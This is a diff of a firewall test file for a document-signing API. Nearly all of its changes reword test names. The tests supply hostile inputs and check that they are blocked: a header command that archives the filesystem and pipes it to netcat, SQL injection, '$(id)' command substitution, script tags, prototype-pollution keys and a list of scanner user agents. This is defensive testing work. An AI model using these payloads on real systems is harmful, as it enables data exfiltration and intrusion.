@@ -1,4 +1,4 @@
-/** The request firewall in front of the whole server (docs/api/firewall.md). Tests of its rules are in platform/firewall. */
+/** The request firewall for the whole server (docs/api/firewall.md). Its rules are tested in platform/firewall. */
 import { describe, expect, test } from 'vitest';
 import { startTestApp } from '../support/app.ts';
 import { expectError } from '../support/expect-answer.ts';
@@ -33,7 +33,7 @@ describe('blocks with 403 and names the rule and the field', () => {
     expectError(await app.key.get(address), 'REQUEST_BLOCKED', { ruleId, field });
   });
 
-  test('a header with a command', async () => {
+  test('blocks a command in a header', async () => {
     const answer = await app.key.get(path, { headers: { 'x-client-version': '; tar cf - / | nc host 80' } });
     expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'command-chain', field: 'header.x-client-version' });
   });
@@ -41,7 +41,7 @@ describe('blocks with 403 and names the rule and the field', () => {
   test.each([
     ['an e-mail address', { signers: [{ name: 'Ada', email: "ada'||(select 1)||'@example.com" }] }, 'sql-statement'],
     ['an identifier', { signers: [], fields: [{ kind: 'text', page: 1, signer: '$(id)' }] }, 'command-substitution'],
-  ])('%s in JSON', async (_, body, ruleId) => {
+  ])('blocks %s in JSON', async (_, body, ruleId) => {
     const { id } = await app.draft();
     const answer = await app.key.send('POST', `/api/documents/${id}/send-for-signing`, { body });
     expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body\./) });
@@ -51,14 +51,14 @@ describe('blocks with 403 and names the rule and the field', () => {
     ['a title that is an attack', { title: '<script>alert(1)</script>' }, 'script-tag', 'body.title'],
     ['the name of a member', { 'constructor[prototype]': 1 }, 'operator-key', 'body'],
     ['a member that nobody asked for', { unknown: [{ deep: '{{7*7}}' }] }, 'template-expression', 'body'],
-  ])('%s, whoever asks', async (_, body, ruleId, field) => {
+  ])('blocks %s for every caller', async (_, body, ruleId, field) => {
     const { id } = await app.draft();
     const found = { ruleId, field };
     expectError(await app.key.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
     expectError(await app.anyone.send('PATCH', `/api/documents/${id}`, { body }), 'REQUEST_BLOCKED', found);
   });
 
-  test('parts of a form: a value, a file name, the name of a part', async () => {
+  test('blocks a value, a file name and a part name of a form', async () => {
     const send = (body: Buffer) => app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
     const file = { name: 'file', filename: 'a.pdf', content: makePdf() };
     expectError(await send(pdfUpload(makePdf(), { title: SQL })), 'REQUEST_BLOCKED', {
@@ -81,7 +81,7 @@ describe('blocks with 403 and names the rule and the field', () => {
     'masscan/1.3',
     'Nuclei - Open-source project',
     'zgrab/0.x',
-  ])('the agent %s', async (agent) => {
+  ])('blocks the user agent %s', async (agent) => {
     const answer = await app.anyone.send('GET', '/api/health', { headers: { 'user-agent': agent } });
     expectError(answer, 'REQUEST_BLOCKED', { ruleId: 'scanner-agent', field: 'header.user-agent' });
     expect(answer.headers.get('x-request-id')).toMatch(/^req_/);
@@ -90,7 +90,7 @@ describe('blocks with 403 and names the rule and the field', () => {
   });
 });
 
-describe('a body that was sent to an unknown address', () => {
+describe('a body sent to an unknown address', () => {
   const form = { 'content-type': 'application/x-www-form-urlencoded' };
   const xml = { 'content-type': 'application/xml' };
 
@@ -113,7 +113,7 @@ describe('a body that was sent to an unknown address', () => {
     expectError(answer, 'REQUEST_BLOCKED', { ruleId, field: expect.stringMatching(/^body/) });
   });
 
-  test('is answered with 404 when it is honest, long or of any type', async () => {
+  test('is answered with 404 when it is harmless, long or of any type', async () => {
     for (const [body, type] of [
       [Buffer.from('{"name":"Ada"}'), 'application/json'],
       [Buffer.from('name=Ada&city=London'), 'application/x-www-form-urlencoded'],
@@ -123,7 +123,7 @@ describe('a body that was sent to an unknown address', () => {
   });
 });
 
-test('leaves a text to the contract that is longer than the contract allows, and spends no time on it', async () => {
+test('leaves a text longer than the contract allows to validation, and spends no time on it', async () => {
   const body = { email: '\r\n'.repeat(500_000), password: 'a password of somebody' };
   const began = process.cpuUsage();
   const answer = await app.anyone.send('POST', '/api/auth/login', { body });
@@ -132,7 +132,7 @@ test('leaves a text to the contract that is longer than the contract allows, and
   expect(user / 1000, 'milliseconds of CPU time, 14,000 before').toBeLessThan(1000);
 });
 
-test('refuses a form of boundaries alone with 422, before they are parsed', async () => {
+test('rejects a form that consists only of boundaries with 422 before parsing it', async () => {
   const body = Buffer.from(`\r\n--${BOUNDARY}`.repeat(30_000));
   const began = process.cpuUsage();
   const answer = await app.key.send('POST', '/api/documents/upload', { body, headers: MULTIPART });
@@ -141,7 +141,7 @@ test('refuses a form of boundaries alone with 422, before they are parsed', asyn
   expect(user / 1000, 'milliseconds of processor time').toBeLessThan(500);
 });
 
-test('blocks more text in strict places than any program sends', async () => {
+test('blocks more text in strict fields than any client sends', async () => {
   const { id } = await app.draft();
   const unknown = Array.from({ length: 9_000 }, (_, n) => `some value ${n}`);
   const answer = await app.key.send('PATCH', `/api/documents/${id}`, { body: { unknown } });
@@ -161,7 +161,7 @@ test.each([
   expect((await app.key.get(`${path}?search=${encodeURIComponent("' OR 1=1")}`)).status).toBe(200);
 });
 
-test('a title that looks hostile goes the whole way: template, upload, send, sign, verify, search, webhook', async () => {
+test('accepts a hostile-looking title from template and upload to signing, verification, search and webhook', async () => {
   const webhook = await addWebhook(app, { url: receiver.url, events: ['document.completed'] });
   const template = await makeTemplate(app.owner, { ...LEASE, name: TITLE, description: TITLE });
   expect(template.name).toBe(TITLE);
@@ -185,7 +185,7 @@ test('a title that looks hostile goes the whole way: template, upload, send, sig
   expect(received?.body, webhook.id).toContain(JSON.stringify(TITLE));
 });
 
-test('detects without blocking, and lets exceptions pass, as the operator has set it', async () => {
+test("follows the operator's settings to detect without blocking and to allow exceptions", async () => {
   const detecting = await startTestApp({ firewall: { mode: 'detect', exceptions: [] } });
   const { id: draft } = await detecting.draft();
   expect((await detecting.key.get(`${path}?search=${encodeURIComponent(SQL)}`)).status).toBe(200);
@@ -209,7 +209,7 @@ test('detects without blocking, and lets exceptions pass, as the operator has se
   });
 });
 
-test('refuses the 101st block of an address within the hour with 429', async () => {
+test('rejects requests with 429 after the 101st block of an address within an hour', async () => {
   const blocking = await startTestApp();
   const ask = () => blocking.anyone.get(`${path}?sortBy=${encodeURIComponent('$(id)')}`);
   const found = { ruleId: 'command-substitution', field: 'query.sortBy' };
